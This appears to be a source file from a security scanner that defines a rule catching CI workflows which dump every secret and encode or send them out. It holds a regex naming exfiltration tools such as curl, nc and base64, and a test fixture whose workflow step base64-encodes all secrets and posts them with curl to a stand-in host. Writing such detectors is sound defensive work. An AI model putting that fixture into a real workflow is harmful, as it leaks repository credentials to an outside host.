/** EX-02: a workflow, or a command for a forge, hands over secrets. */
import { inFile } from '../../engine/example.ts';
import { exactPattern, raw } from '../../engine/pattern.ts';
import { row, type Row } from '../../engine/rule.ts';
import { postedComments } from './ex-02-posted-comments.ts';

/** Encoded, which hides them from the masking of logs, or sent by a command. */
const leaves =
  /\bbase64\b|\bxxd\b|\bopenssl\b|\brev\b|\b(?:curl|wget|nc|ncat)\s|\bgh\s{1,3}(?:api|issue|gist|pr)\b|\bInvoke-(?:WebRequest|RestMethod)\b/;

export const workflowSecrets: readonly Row[] = [
  row('all secrets of a workflow are encoded or sent', {
    in: ['config', 'fence', 'script', 'decoded'],
    within: 'block',
    match: exactPattern(raw(String.raw`\$\{\{\s{0,3}to[Jj][Ss][Oo][Nn]\(\s{0,3}secrets\s{0,3}\)\s{0,3}\}\}`)),
    severity: 'critical',
    weigh: ({ region, severity }) => (leaves.test(region.text) ? severity : null),
    catches: [
      inFile(
        '.github/workflows/a.yml',
        'jobs:',
        '  count:',
        '    steps:',
        '      - env:',
        '          ALL: ${{ toJSON(secrets) }}',
        '        run: echo "$ALL" | base64 | curl -s -d @- https://count.invalid',
      ),
    ],
    spares: [
      inFile(
        '.github/workflows/a.yml',
        'jobs:',
        '  build:',
        '    steps:',
        '      - uses: acme/secrets-to-env@v1',
        '        with:',
        '          secrets: ${{ toJSON(secrets) }}',
      ),
    ],
  }),
  ...postedComments,
];
